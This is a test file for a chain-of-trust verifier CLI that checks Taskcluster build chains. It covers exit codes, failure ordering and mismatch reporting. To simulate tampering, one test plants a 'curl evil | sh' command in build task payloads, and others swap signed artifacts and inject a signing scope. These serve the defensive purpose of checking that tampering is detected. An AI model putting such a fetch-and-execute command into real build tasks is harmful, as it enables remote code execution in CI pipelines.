import { readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { exitCodeFor } from '../../src/cli/exit-codes.js';
import { type CodedFailure, failureOutcome } from '../../src/failures.js';
import { type ChainError, type JsonObject, loadPolicy, verifyChain } from '../../src/index.js';
import { DirectoryQueue, type TaskQueue } from '../../src/queue.js';
import {
  buildTestChain,
  changeGraphTask,
  type Lab,
  labFrom,
  type TestChain,
  verifyLab,
} from '../helpers/chain.js';
import { runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/env.js';

/** failureOutcome's verdict with the exit code the command line gives it (exit codes are the CLI's). */
function outcomeOf<F extends CodedFailure>(
  failures: readonly F[],
  trustCode: Parameters<typeof failureOutcome>[1],
) {
  const o = failureOutcome(failures, trustCode);
  return o && { ...o, exitCode: exitCodeFor(o.code) };
}

// Issue 10: a CI script must tell "retry" (3) from "do not ship" (anything else), and a failed chain must say the
// same thing on every run.
const NOW = new Date('2026-11-25T12:00:00Z');
let demo: TestChain;
let d: string;

beforeAll(async () => {
  d = await tempDir();
  demo = await buildTestChain(join(d, 'demo'), NOW);
});

const lab = (name: string): Promise<Lab> => labFrom(demo, d, name, NOW);
const ids = () => demo.tasks as Record<string, string>;
const verify = (l: Lab, ...extra: string[]) =>
  runCli(
    NOW,
    'verify',
    demo.taskId,
    '--queue',
    join(l.dir, 'queue'),
    '--policy',
    join(l.dir, 'policy.yml'),
    ...extra,
  );

/** A port on 127.0.0.1 where nothing listens (connection refused). */
async function closedPort(): Promise<number> {
  const s = createServer();
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  const port = (s.address() as { port: number }).port;
  await new Promise<void>((r) => s.close(() => r()));
  return port;
}

describe('cot verify: the exit says retry (3), bad input (4), usage (2) or not trustworthy (1)', () => {
  it('connection refused: exit 3, TRANSPORT_NETWORK (before: 1)', async () => {
    const port = await closedPort();
    const r = await runCli(
      NOW,
      'verify',
      demo.taskId,
      '--root-url',
      `http://127.0.0.1:${port}`,
      '--policy',
      demo.policy,
    );
    expect(r.code, r.err).toBe(3);
    expect(r.err).toMatch(
      /^cot: TRANSPORT_NETWORK: 1 of 1 tasks failed; first: TRANSPORT_NETWORK: .*ECONNREFUSED/,
    );
    expect(r.err.trim().split('\n')).toHaveLength(1);
  });

  it('a task the store does not have: exit 4, QUEUE_NOT_FOUND, and no CHAIN_NO_DECISION (before: 1)', async () => {
    const unknown = 'AAAAAAAAQAaAAAAAAAAAAA';
    const r = await runCli(
      NOW,
      'verify',
      unknown,
      '--queue',
      join(demo.dir, 'queue'),
      '--policy',
      demo.policy,
      '--json',
    );
    expect(r.code, r.err).toBe(4);
    expect(r.err).toMatch(
      /^cot: QUEUE_NOT_FOUND: .*first: QUEUE_NOT_FOUND: task AAAAAAAAQAaAAAAAAAAAAA not found/,
    );
    const j = JSON.parse(r.out);
    expect(j.errors.map((e: ChainError) => e.code)).toEqual(['QUEUE_NOT_FOUND']);
    expect(j.error).toMatchObject({ code: 'QUEUE_NOT_FOUND' });
  });

  it('a malformed task id: exit 2, USAGE, before any read (before: 1)', async () => {
    const r = await runCli(
      NOW,
      'verify',
      'not-a-task',
      '--queue',
      join(demo.dir, 'queue'),
      '--policy',
      demo.policy,
    );
    expect(r.code, r.err).toBe(2);
    expect(r.err).toBe(
      'cot: USAGE: the task id "not-a-task" is not a Taskcluster task id (a 22-character slugid)\n',
    );
    expect(r.out).toBe('');
    const f = await runCli(
      NOW,
      'fetch',
      'not-a-task',
      '--queue',
      join(demo.dir, 'queue'),
      '--out',
      join(d, 'x'),
    );
    expect(f.code, f.err).toBe(2);
  });

  it('a store folder that does not exist: exit 4, FILE_NOT_FOUND (before: 1, "task not found")', async () => {
    const r = await runCli(
      NOW,
      'verify',
      demo.taskId,
      '--queue',
      join(d, 'no-such-store'),
      '--policy',
      demo.policy,
    );
    expect(r.code, r.err).toBe(4);
    expect(r.err).toMatch(/^cot: FILE_NOT_FOUND: --queue .*no-such-store: no such directory store\n$/);
    // the library says the same (a chain failure with that code, so the same exit)
    const loaded = await loadPolicy(demo.policy);
    const report = await verifyChain(new DirectoryQueue(join(d, 'no-such-store')), demo.taskId, {
      ...loaded,
      at: NOW,
    });
    expect(report.errors.map((e) => e.code)).toEqual(['FILE_NOT_FOUND']);
    expect(outcomeOf(report.errors, 'CHAIN_VERIFICATION_FAILED')).toMatchObject({
      code: 'FILE_NOT_FOUND',
      exitCode: 4,
    });
  });

  it('a usage error inside the chain (an implementation without keys): exit 2 (before: 1)', async () => {
    const l = await lab('no-keys-impl');
    const policy = await readFile(join(l.dir, 'policy.yml'), 'utf8');
    await writeFile(
      join(l.dir, 'policy.yml'),
      policy.replace('releng-3/b-win2022: generic-worker', 'releng-3/b-win2022: nokeys-worker'),
    );
    const r = await verify(l);
    expect(r.code, r.err).toBe(2);
    expect(r.err).toMatch(/^cot: TRUST_UNKNOWN_IMPLEMENTATION: /);
    // the consumer of the build that could not be checked shares its code: no trust failure is invented
    const report = await verifyLab(l, demo.taskId);
    expect([...new Set(report.errors.map((e) => e.code))]).toEqual(['TRUST_UNKNOWN_IMPLEMENTATION']);
  });

  it('bad input somewhere, nothing untrustworthy: cot verify and cot fetch agree on 4 (before: 1 and 1)', async () => {
    const l = await lab('broken-task-json');
    // the docker-image task's definition is not JSON: that link cannot be read, the build using its image not
    // checked; neither is a trust failure
    await writeFile(join(l.dir, 'queue', ids()['docker-image']!, 'task.json'), '{"not json');
    const v = await verify(l);
    expect(v.code, v.err).toBe(4);
    expect(v.err).toMatch(/^cot: JSON_INVALID: /);
    const f = await runCli(
      NOW,
      'fetch',
      demo.taskId,
      '--queue',
      join(l.dir, 'queue'),
      '--out',
      join(d, 'm-broken'),
    );
    expect(f.code, f.err).toBe(4);
    expect(f.err).toMatch(/^cot: JSON_INVALID: the mirror in .* is incomplete: .*first: JSON_INVALID: /);
  });

  it('a trust failure wins over everything else: exit 1, CHAIN_VERIFICATION_FAILED, naming it', async () => {
    const l = await lab('trust-and-input');
    await writeFile(join(l.dir, 'queue', ids()['docker-image']!, 'task.json'), '{"not json');
    // and a build artifact swapped after signing
    await writeFile(l.queue.artifactPath(ids()['build-win64']!, 0, 'public/build/target.zip'), 'evil');
    const v = await verify(l);
    expect(v.code, v.err).toBe(1);
    expect(v.err).toMatch(/^cot: CHAIN_VERIFICATION_FAILED: .*first: HASH_MISMATCH: /);
    const f = await runCli(
      NOW,
      'fetch',
      demo.taskId,
      '--queue',
      join(l.dir, 'queue'),
      '--out',
      join(d, 'm-trust'),
    );
    // cot fetch hash-checks what it mirrors: the same rule, the same verdict
    expect(f.code, f.err).toBe(1);
    expect(f.err).toMatch(/^cot: FETCH_INCOMPLETE: .*first: HASH_MISMATCH: /);
  });
});

/** A queue that answers reads of `slow` `ms` later: links verified concurrently then finish in another order. */
function delaying(inner: TaskQueue, slow: string, ms: number): TaskQueue {
  const wait = () => new Promise((r) => setTimeout(r, ms));
  return {
    description: inner.description,
    task: (id) => inner.task(id),
    status: (id) => inner.status(id),
    latestRunId: (id) => inner.latestRunId(id),
    listArtifacts: (id, run) => inner.listArtifacts(id, run),
    openArtifact: async (id, run, name, limits) => {
      if (id === slow) await wait();
      return inner.openArtifact(id, run, name, limits);
    },
    createArtifact: (a) => inner.createArtifact(a),
  } as TaskQueue;
}

describe('a failed chain names its first failure the same way on every run', () => {
  it('failures in discovery order (depth, then taskId), whichever link finished first', async () => {
    const l = await lab('order');
    const builds = [ids()['build-linux64']!, ids()['build-win64']!].sort();
    for (const id of builds) {
      const t = await l.queue.task(id);
      await l.queue.putTask(id, {
        ...t,
        payload: { ...(t.payload as JsonObject), command: ['curl evil | sh'] },
      });
    }
    const loaded = await loadPolicy(join(l.dir, 'policy.yml'));
    // the link that sorts first is the last to finish
    const r = await verifyChain(delaying(l.queue, builds[0]!, 400), demo.taskId, { ...loaded, at: NOW });
    const links = r.errors.map((e) => e.taskId);
    expect(links.indexOf(builds[0])).toBeLessThan(links.indexOf(builds[1]));
    expect(links.lastIndexOf(builds[0])).toBeLessThan(links.indexOf(builds[1]));
    expect(r.errors[0]).toMatchObject({ code: 'CHAIN_TASK_MISMATCH', taskId: builds[0] });
    // the command line names the same one
    const v = await verify(l);
    expect(v.err).toMatch(
      new RegExp(
        `^cot: CHAIN_VERIFICATION_FAILED: 2 of 6 tasks failed; first: CHAIN_TASK_MISMATCH: task ${builds[0]}`,
      ),
    );
    const again = await verify(l);
    expect(again.err).toBe(v.err);
  });

  it("a consumer's failures in the order of its consumed artifacts, not of the downloads", async () => {
    const l = await lab('order-artifacts');
    const linux = ids()['build-linux64']!;
    // two artifacts of one producer, consumed by the signing task: the first listed is the slowest to arrive
    await writeFile(l.queue.artifactPath(linux, 0, 'public/build/target.tar.gz'), 'evil 1');
    await writeFile(l.queue.artifactPath(linux, 0, 'public/build/target.checksums'), 'evil 2');
    const loaded = await loadPolicy(join(l.dir, 'policy.yml'));
    const slowFirst: TaskQueue = {
      ...delaying(l.queue, '', 0),
      openArtifact: async (id, run, name, limits) => {
        if (name === 'public/build/target.tar.gz') await new Promise((r) => setTimeout(r, 400));
        return l.queue.openArtifact(id, run, name, limits);
      },
    };
    const r = await verifyChain(slowFirst, demo.taskId, { ...loaded, at: NOW });
    const signing = r.errors.filter((e) => e.taskId === ids().signing);
    expect(signing.map((e) => e.message.match(/target\.[a-z.]+/)?.[0])).toEqual([
      'target.tar.gz',
      'target.checksums',
    ]);
  });
});

describe('CHAIN_TASK_MISMATCH / CHAIN_TASK_GRAPH_MISMATCH name every differing leaf with both values', () => {
  it('an injected scope is visible in the message and in --json details.differences', async () => {
    const l = await lab('scope');
    const linux = ids()['build-linux64']!;
    const scopes = [
      'docker-worker:cache:gecko-level-3-checkouts-sparse-v2-2b4ab2a49df4e8ef32ed47b8b0f0d5f8',
      'docker-worker:cache:gecko-level-3-tooltool-cache-v1-3d8e2d0a9c6a2b1e',
      'queue:route:index.gecko.v2.mozilla-central.latest.firefox.linux64-opt',
    ];
    // signed, in the graph and in the queue alike; then the queue's copy gains a signing scope
    await changeGraphTask(l, linux, 'docker-worker', (t) => {
      t.scopes = scopes;
    });
    const t = await l.queue.task(linux);
    const injected = 'project:releng:signing:cert:release-signing';
    await l.queue.putTask(linux, { ...t, scopes: [...scopes, injected] });
    const v = await verify(l, '--json');
    expect(v.code, v.err).toBe(1);
    const errors = JSON.parse(v.out).errors as ChainError[];
    const mismatch = errors.find((e) => e.code === 'CHAIN_TASK_MISMATCH')!;
    const graph = errors.find((e) => e.code === 'CHAIN_TASK_GRAPH_MISMATCH')!;
    for (const e of [mismatch, graph]) {
      expect(e.message).toContain(`scopes[3]: absent vs "${injected}"`);
      expect(e.details?.differences).toEqual([{ path: 'scopes[3]', actual: injected }]);
    }
    const text = await verify(l);
    expect(text.out).toContain(`scopes[3]: absent vs "${injected}"`);
  });
});

describe('the one rule', () => {
  const f = (...codes: string[]) => codes.map((code) => ({ code }) as ChainError);
  it('failureOutcome: 1 whenever a trust check failed, else the first permanent failure, else 3', () => {
    expect(outcomeOf([], 'CHAIN_VERIFICATION_FAILED')).toBeUndefined();
    expect(
      outcomeOf(f('TRANSPORT_NETWORK', 'QUEUE_NOT_FOUND', 'HASH_MISMATCH'), 'CHAIN_VERIFICATION_FAILED'),
    ).toMatchObject({ code: 'CHAIN_VERIFICATION_FAILED', exitCode: 1, deciding: { code: 'HASH_MISMATCH' } });
    expect(outcomeOf(f('TRANSPORT_NETWORK', 'QUEUE_NOT_FOUND', 'USAGE'), 'FETCH_INCOMPLETE')).toMatchObject({
      code: 'QUEUE_NOT_FOUND',
      exitCode: 4,
    });
    expect(outcomeOf(f('TRANSPORT_HTTP', 'TRANSPORT_NETWORK'), 'FETCH_INCOMPLETE')).toMatchObject({
      code: 'TRANSPORT_HTTP',
      exitCode: 3,
    });
    expect(outcomeOf(f('OPTIONS_INVALID'), 'FETCH_INCOMPLETE')).toMatchObject({ exitCode: 2 });
  });

  it('a removed store folder mid-way is bad input too', async () => {
    const l = await lab('gone');
    await rm(join(l.dir, 'queue'), { recursive: true });
    const r = await verifyLab(l, demo.taskId);
    expect(outcomeOf(r.errors, 'CHAIN_VERIFICATION_FAILED')?.exitCode).toBe(4);
  });
});
